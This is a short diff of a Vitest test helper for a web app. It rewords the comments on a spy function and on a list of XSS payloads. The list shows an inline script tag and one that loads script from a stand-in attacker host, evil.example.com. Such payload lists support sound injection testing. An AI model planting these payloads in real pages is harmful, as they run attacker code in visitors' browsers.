@@ -1,6 +1,6 @@
 import { afterEach, beforeEach, vi } from 'vitest'
 
-/** What an attack that succeeds calls. */
+/** Returns the function that successful attacks call. */
 export const watchAttacks = () => {
   const attacked = vi.fn()
   beforeEach(() => void Object.assign(window, { attacked }))
@@ -11,7 +11,7 @@ export const watchAttacks = () => {
   return attacked
 }
 
-/** Markup that tries to run something, to look like the console, or to report who reads it. */
+/** Markup that tries to run code, to imitate the console, or to report who reads it. */
 export const attacks: readonly string[] = [
   '<script>attacked()</script>',
   '<SCRIPT SRC=//evil.example.com/x.js></SCRIPT>',
